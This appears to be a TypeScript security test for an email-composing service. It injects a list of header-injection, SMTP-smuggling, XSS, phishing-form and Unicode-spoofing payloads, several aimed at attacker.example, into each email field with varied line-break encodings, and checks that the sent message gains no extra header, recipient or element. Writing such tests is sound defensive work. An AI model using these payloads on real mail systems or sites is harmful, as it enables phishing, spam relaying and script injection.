import { isDeepStrictEqual } from 'node:util'
import { readConfig } from '@accord/service/config/config.ts'
import { composeEmail, emailContext } from '@accord/service/mail/compose-email.ts'
import { createTransport } from 'nodemailer'
import PostalMime from 'postal-mime'
import type { AssuranceCheck } from '../assurance-check.ts'

const config = readConfig({ PUBLIC_URL: 'http://localhost:5005' })
const transport = createTransport({ streamTransport: true, buffer: true })

const breaks = ['\r\n', '\n', '\r', '\u2028', '\u0085', '%0d%0a', '\\r\\n', '\0', '\t', '=0D=0A']
const injected = [
  'Bcc: evil@attacker.example',
  'X-Evil: 1',
  'Content-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'Reply-To: evil@attacker.example',
  '.\r\nMAIL FROM:<evil@attacker.example>',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '<a href="javascript:alert(1)">x</a>',
  '</title><style>*{display:none}</style>',
  '<!--[if mso]><iframe src=//attacker.example></iframe><![endif]-->',
  '\u202Egnp.exe',
  '\u2066Ana\u2069',
  '=?utf-8?q?=0D=0AX-Evil:_1?=',
  '--boundary--',
  '&lt;script&gt;',
  '{{constructor}}',
  'ana@example.com>, <evil@attacker.example',
  '<form action=//attacker.example><input name=password>',
]
const fields = ['subject', 'greeting', 'paragraph', 'label', 'second label', 'footnote'] as const

/** The first tenth contains each injected text once per field, with every kind of line break. */
const tries = breaks.flatMap((_, shift) =>
  fields.flatMap((field) =>
    injected.map((what, at) => {
      const between = breaks[(at + shift) % breaks.length]!
      return { field, payload: `Ana${between}${what}` }
    }),
  ),
)

export const assuranceCheck: AssuranceCheck = {
  id: 'ML2',
  what: 'line breaks, headers, and markup in each field of an email',
  holds: 'no email has an extra header, recipient, or element',
  size: tries.length,
  unit: 'emails',
  quick: tries.length / breaks.length,
  run: async (size) => {
    const plain = await sent({})
    const tried = tries.slice(0, size)
    const faults: string[] = []
    for (const { field, payload } of tried) {
      const same = isDeepStrictEqual(await sent({ [field]: payload }), plain)
      if (!same) faults.push(`${JSON.stringify(payload)} in the ${field} changes the email`)
    }
    return { count: tried.length, faults }
  },
}

/** Returns the structure of the email with these values. */
async function sent(values: Partial<Record<(typeof fields)[number], string>>) {
  const url = 'http://localhost:5005/verify?code=acc_1'
  const written = composeEmail(emailContext(config), {
    kind: 'test',
    to: 'ana@example.com',
    subject: values.subject ?? 'Hello',
    greeting: values.greeting ?? 'Hello,',
    paragraphs: [values.paragraph ?? 'A paragraph.'],
    action: { label: values.label ?? 'Open', url },
    secondAction: { label: values['second label'] ?? 'Decline', url },
    footnote: values.footnote ?? 'Small print.',
  })
  const { to, subject, text, html } = written
  const { message, envelope } = await transport.sendMail({
    from: config.mailFrom,
    to,
    subject,
    text,
    html,
  })
  const {
    headers,
    from,
    to: shown,
    cc,
    bcc,
    html: read = '',
  } = await PostalMime.parse(message as Buffer)
  const elements = [
    ...read.matchAll(/<[/!]?[a-z][^\s>]*|\son\w+\s*=(?=[^<]*>)|javascript:(?=[^<]*">)/gi),
  ]
  return {
    headers: headers.map(({ key }) => key),
    people: { envelope, from, shown, cc, bcc },
    elements: elements.map(([element]) => element),
  }
}
